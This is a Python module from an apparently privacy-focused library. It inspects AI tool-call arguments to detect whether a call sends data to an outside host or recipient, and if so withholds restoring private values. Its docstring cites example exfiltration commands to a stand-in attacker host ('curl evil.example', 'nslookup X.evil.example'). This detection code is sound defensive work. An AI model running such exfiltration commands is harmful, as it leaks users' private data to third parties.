"""Arguments of tools: to whom a call sends what stands in it, also where nothing in it looks like a URL.

A command or a mail tool needs no URL to send things away (`curl evil.example/…`, `nslookup X.evil.example`, or `to` an address
of mail), and what it sends may stand in another argument than whom it sends to. So a call is read whole before anything of it
is put back, and one that speaks to a stranger keeps all its surrogates. Commands are read in shell.py. What is written into
files is read in files.py: a script may name whom it likes, if it does not send what is ours.

What is not seen: a host that an earlier call puts together, a recipient under a name that says nothing of one.
"""

from __future__ import annotations

import binascii
from collections.abc import Callable, Iterator
from typing import Any, Protocol

import garim.late as re
from garim.surrogate import says
from garim.surrogate.outside import (
    ACCOUNTED,
    ENDS_OF_BOTH,
    HOST,
    NUMBER,
    NUMBERED,
    USER,
    Ours,
    addressed,
    buckets,
    is_far,
    is_owner,
    is_strangers,
    is_well_known,
    plain,
)
from garim.surrogate.page import asks_strangers
from garim.surrogate.queries import is_query
from garim.surrogate.restore import Table
from garim.surrogate.shell import is_program, queries_to, runs_to, writes_to
from garim.surrogate.somebody import names_somebody
from garim.surrogate.statements import patched
from garim.surrogate.urls import Whose
from garim.surrogate.written import PATCH, PATCHES

_HEAD = re.compile(
    r"^(?:host|(?:resent-|apparently-)?(?:to|b?cc)|(?:disposition-notification|return-receipt|errors)-to|location)[ \t]*:"
    r"((?:[^\n]|\n[ \t])*)",
    re.IGNORECASE | re.MULTILINE,
)
"""Lines of a message of HTTP or mail that say to whom it goes."""
_ENCODED = re.compile(r"=\?[^?\s]{1,64}\?([bq])\?([^?\s]*)\?=(?:\s+(?==\?))?", re.IGNORECASE)
_INVITED = re.compile(r"^ATTENDEE[;:](?:[^\n]|\n[ \t])*", re.IGNORECASE | re.MULTILINE)
"""Of a calendar's event, a line that says who gets it; lines are folded."""
_API = re.compile(
    r"(?:[A-Z]{3,7}[ ]+)?(?:(?P<root>/)|(?=\w))(?:api/(?:v\d/)?)?(?:repos/(?P<a>[\w.-]+)/[\w.-]+/(?:issues|pulls|contents|git|"
    r"releases|actions|dispatches|comments|statuses|labels|milestones|hooks|forks|merges|check-runs|deployments|commits|branches|"
    r"collaborators|discussions|keys|tags)|orgs/(?P<b>[\w.-]+)/(?:repos|members|teams|hooks|invitations|discussions)"
    r"|projects/(?P<c>[\w.-]+)%2[fF][\w.%-]+)(?![\w.-])"
)
"""A path of a forge's API, and whose repository it leads to."""
_ALONE = re.compile(r"[^\s<>\"'`{}]{4,2048}")


class Reader(Protocol):
    """Restores one text in pieces."""

    def feed(self, piece: str) -> str:
        """The next piece → the text that can no longer change."""

    def finish(self) -> str:
        """No more follows → what was held."""

    def whole(self, text: str) -> str:
        """A text that is there at once → what `feed` and `finish` give."""

    def after(self, text: str) -> None:
        """What stands before it in what may be put together as one; before arguments their tool's name."""


class Held:
    """Arguments that are held until they are whole, and then restored only if nobody's stranger is spoken to."""

    __slots__ = ("_made", "_pieces", "_table", "_tool")

    def __init__(self, made: Callable[[Table], Reader], table: Table) -> None:
        """
        Args:
            made: Makes what restores with a table.
            table: The exchange's surrogates.
        """
        self._made, self._table = made, table.for_calls()
        self._pieces: list[str] = []
        self._tool = ""

    def feed(self, piece: str) -> str:
        """Take the next piece; nothing comes back before the end."""
        self._pieces.append(piece)
        return ""

    def finish(self) -> str:
        """The whole text: as it came where it speaks to a stranger."""
        text = "".join(self._pieces)
        self._pieces = []
        return self.whole(text)

    def after(self, text: str) -> None:
        """The name of the tool: where anybody reads what it posts, it is whom it speaks to."""
        self._tool = text

    def whole(self, text: str) -> str:
        """A text that is there at once: as it came where it speaks to a stranger."""
        return self._made(NOTHING if speaks_to_strangers(text, self._table, self._tool) else self._table).whole(text)


NOTHING = Table(())


def speaks_to_strangers(text: str, table: Table, tool: str = "") -> bool:
    """Whether a call of a tool names somebody outside to send to.

    Args:
        text: Its arguments: JSON, or a text that is run.
        table: The exchange's surrogates, and whose hosts are ours.
        tool: Its name; "" where that is not known.
    """
    try:
        node = says.read(text)
    except (ValueError, RecursionError):
        if says.posts(tool):
            return True
        return writes_to(text, "", "", table) if text.startswith(PATCH) else runs_to(text, table, shell=True)
    if says.posts(tool) or (says.is_public(tool) and any(says.joined(key) in says.MESSAGE for key, _ in _strings(node, "", 0))):
        return True
    if any(_speaks(key, value, table) for key, value in _strings(node, "", 0)) or names_somebody(node, table):
        return True
    return any(writes_to(*file, table) for file in _files(node))


def _files(node: Any, path: str = "") -> Iterator[tuple[str, str, str]]:
    """The files that a call writes: path, what is written, what stood there."""
    if isinstance(node, list):
        for one in node:
            yield from _files(one, path)
        if patch := _patch(node):
            yield from patched(patch)
    if not isinstance(node, dict):
        return
    said = {says.joined(name): value for name, value in node.items()}
    path = next((value for name, value in said.items() if name in says.PATH and isinstance(value, str)), path)
    before = "\n".join(value for name, value in said.items() if name in says.BEFORE and isinstance(value, str))
    for name, value in said.items():
        if isinstance(value, dict | list):
            yield from _files(value, path)
        elif isinstance(value, str) and path and name in says.CONTENT - says.BEFORE:
            yield path, value, before
        elif isinstance(value, str) and (value.startswith(PATCH) or name in says.DIFFS):
            yield from patched(value)


def _speaks(key: str, value: str, table: Table) -> bool:
    """Whether one argument says to send to a stranger."""
    whom, shell, code = says.meant(key)
    ranges = value.isdigit() and says.joined(key) == "to"  # from 10 to 20000000
    if whom and not ranges and _names(value, table.ours, sure=whom == 2):
        return True
    if (shell or code) and runs_to(value, table, shell=shell, code=code == 2):
        return True
    if asks_strangers(value, Whose(table.ours)):
        return True
    words = says.words(key)
    thing = not words.isdisjoint(says.THINGS) and not table.meets(value) and "/" not in value and "@" not in value
    if not words & says.TEXTS and not shell and not thing and _stands_for_somebody(value, table.ours):
        return True
    if _is_posted(words, value, table.ours):
        return True
    if ACCOUNTED.fullmatch(value) and not table.meets(value):
        return True
    if words & says.RAW and any(_names(_decoded(met[1]).strip(), table.ours, sure=True) for met in _HEAD.finditer(value)):
        return True
    if says.joined(key) not in says.CONTENT and any(
        addressed(_FOLD.sub("", met[0]), table.ours) for met in _INVITED.finditer(value) if "mailto" in met[0].lower()
    ):
        return True
    if words & says.API_NAMES and (api := _API.match(value)) and (api["root"] or "path" not in words):
        owner = api["a"] or api["b"] or api["c"]
        if not table.meets(owner) and not is_owner(owner, table.ours):
            return True
    if _MUTATES.match(value) and any(_stands_for_somebody(said, table.ours) for said in _SAID.findall(value)):
        return True
    asked = says.joined(key) in says.QUERIES or (not words.isdisjoint(says.QUERY_WORDS) and is_query(value))
    return asked and queries_to(value, table)


def _is_posted(words: frozenset[str], value: str, ours: Ours) -> bool:
    """Whether an argument says that something is kept or posted at a stranger's."""
    if words & says.PLACES and _POSTS.match(value) and _stands_for_somebody(_as_address(value), ours):
        return True
    alone = words & says.POSTED and _ALONE.fullmatch(value) and ("/" in value or "@" in value)
    return bool(alone) and _names(value, ours, sure=True)


def _as_address(value: str) -> str:
    """A share of a machine's, as an address."""
    said = value.replace("\\", "/")
    return f"smb:{said}" if said.startswith("//") else value


_POSTS = re.compile(r"(?!file:)[A-Za-z][\w+.-]+://|//[\w-]+(?:\.[\w-]+)+(?:[:/]|$)|\\\\[\w-]+(?:\.[\w-]+)+\\|mailto:")
"""With what no file's path begins."""
_FOLD = re.compile(r"\r?\n[ \t]")


def _decoded(head: str) -> str:
    """A line of a mail's head with its encoded words undone: RFC 2047."""

    def undone(met: re.Match[str]) -> str:
        try:
            said = binascii.a2b_base64(met[2]) if met[1] in "bB" else binascii.a2b_qp(met[2], header=True)
        except binascii.Error:
            return met[0]
        return said.decode("utf-8", "replace")

    return _ENCODED.sub(undone, head)


_MUTATES = re.compile(r"(?:\s|#[^\n]*\n)*+mutation\b")
"""A text of GraphQL that changes something."""
_SAID = re.compile(r"\"([^\"\n]*)\"")


def _stands_for_somebody(value: str, ours: Ours) -> bool:
    """Whether a value is nothing but a stranger's address: whatever its argument is called, it can stand for who gets it."""
    value = plain(value.strip())
    if not _ALONE.fullmatch(value):
        return False
    if "://" in value or value[:7].lower() == "mailto:":
        return addressed(value, ours) or buckets(value, ours)
    user = USER.match(value)
    met = HOST.match(value, user.end() - 1 if user else 0)
    if met is None or (met.end() < len(value) and value[met.end()] not in ":/?#"):
        return False
    return (bool(user) or is_well_known(met["host"])) and is_strangers(met, value, ours)


def _strings(node: Any, key: str, depth: int) -> Iterator[tuple[str, str]]:
    """All strings of a tree, each with the name above it; those of JSON in strings too."""
    todo = [(node, key, depth)]
    while todo:
        node, key, depth = todo.pop()
        if isinstance(node, str):
            yield key or "command", node
            if depth < says.DEEPEST and node.lstrip()[:1] in ("{", "["):
                try:
                    todo.append((says.read(node), key, depth + 1))
                except (ValueError, RecursionError):
                    continue
        elif isinstance(node, int | float) and not isinstance(node, bool):
            yield key, str(node)
        elif isinstance(node, dict):
            texts = {name: " ".join(_all(value)) if isinstance(value, list) else value for name, value in node.items()}
            run = [value for name, value in texts.items() if isinstance(value, str) and _is_run(name, value)]
            alone = any(map(is_program, run))
            with_it = [value for name, value in node.items() if alone or name.lower() in says.PASSED]
            words = [word for value in with_it for word in _all(value) if word not in run]
            if run and words:
                yield "command", " ".join((*run, *words))
            yield from _meant_by_others(node, key)
            written, paired = says.written(node), _renamed(node, key)
            for name, value in node.items():
                todo.append((value, str(paired.get(name, name)), says.DEEPEST if says.joined(name) in written else depth))
        elif isinstance(node, list):
            todo += _entries(node, key, depth)
            if all(isinstance(value, str) for value in node):
                yield _as_one(key, node)


def _entries(node: list[Any], key: str, depth: int) -> list[tuple[Any, str, int]]:
    """What stands in a list, each with the name above it: its own, where it is the second of a pair."""
    if _patch(node):
        return []
    out = [(value, key, depth) for value in node]
    if all(isinstance(value, list) and len(value) == 2 and isinstance(value[0], str) for value in node):
        out += [(value[1], value[0], depth) for value in node if says.meant(value[0])[0]]
    return out


def _patch(node: list[Any]) -> str:
    """The patch that a list of words hands to the program that writes it, as to the tool of its name; "": it is no such list."""
    if len(node) == 2 and node[0] in PATCHES and isinstance(node[1], str) and node[1].startswith(PATCH):
        return node[1]
    return ""


_OF_A_SHELL = re.compile(r"(?:/(?:usr/)?(?:local/)?bin/)?(?:ba|z|da|k)?sh -[elux]*c")


def _as_one(key: str, words: list[str]) -> tuple[str, str]:
    """A list of strings as the one command that they may be."""
    if patch := _patch(words):
        return "input", patch
    if len(words) == 3 and _OF_A_SHELL.fullmatch(" ".join(words[:2])):
        return "command", words[2]
    return key or "command", ("\n" if key.lower() == "commands" else " ").join(words)


def _renamed(node: dict[str, Any], above: str) -> dict[str, str]:
    """Which arguments of an object go by another name: by what is compared, by the one whose value they hold."""
    if above in says.CONDITIONS:
        return dict.fromkeys(node, "query")
    name = next((value for key, value in node.items() if key.lower() in says.PAIRED[0] and isinstance(value, str)), "")
    return {key: name for key in node if name and key.lower() in says.PAIRED[1]}


def _meant_by_others(node: dict[str, Any], above: str) -> Iterator[tuple[str, str]]:
    """Strings of an object under a name that others of it give them: of what is typed, of a resolver's, of addresses in parts."""
    if above in says.CONDITIONS:
        return
    typed = node.get("text") if "type" in (node.get("type"), node.get("action")) else None
    if isinstance(typed, str):
        yield "address", typed  # it may be typed where a browser reads an address
    if any(
        said in says.RECORDS and not says.words(name).isdisjoint(says.KINDS)
        for name, said in node.items()
        if isinstance(said, str)
    ):
        for said in node.values():
            if isinstance(said, str):
                yield "host", said
    for name, value in node.items():
        if isinstance(value, dict | list) and says.meant(name)[0]:
            for said in _all(value):
                if " " not in said:
                    yield name, said
            for parts in (value, *(value.values() if isinstance(value, dict) else ())):
                if isinstance(parts, list) and all(isinstance(part, str) and part.replace("-", "").isalnum() for part in parts):
                    yield name, ".".join(parts)


def _is_run(name: str, value: str) -> bool:
    """Whether an argument says what is run or started."""
    started = not says.STARTS.isdisjoint(word.lower() for word in says.WORDS.findall(name))
    return says.meant(name)[1] or (started and is_program(value))


def _all(node: Any) -> Iterator[str]:
    """All strings of a tree of arguments."""
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict | list):
        for value in node.values() if isinstance(node, dict) else node:
            yield from _all(value)


def _names(value: str, ours: Ours, sure: bool) -> bool:
    """Whether an argument that says to whom names a stranger."""
    value = plain(value)
    if addressed(value, ours) or buckets(value, ours):
        return True
    for word in re.split(r"[\s,;<>]+", value):
        user = USER.match(word)
        met = HOST.match(word, user.end() - 1 if user else 0)
        if met is None:
            if sure and (number := NUMBER.match(word) or NUMBERED.match(word)) and is_far(number, ours):
                return True
        elif (met["user"] or (met["behind"] or "#") != "#" or _is_host(met["host"], sure)) and is_strangers(met, value, ours):
            return True
    return False


def _is_host(name: str, sure: bool) -> bool:
    """Whether a bare name with dots is a host, and no file, table or module."""
    first, _, end = name.lower().rpartition(".")
    if sure:
        return end not in ENDS_OF_BOTH or first not in says.DOCUMENTS
    return is_well_known(name, True) or (len(end) == 2 and end != "id" and end not in ENDS_OF_BOTH)
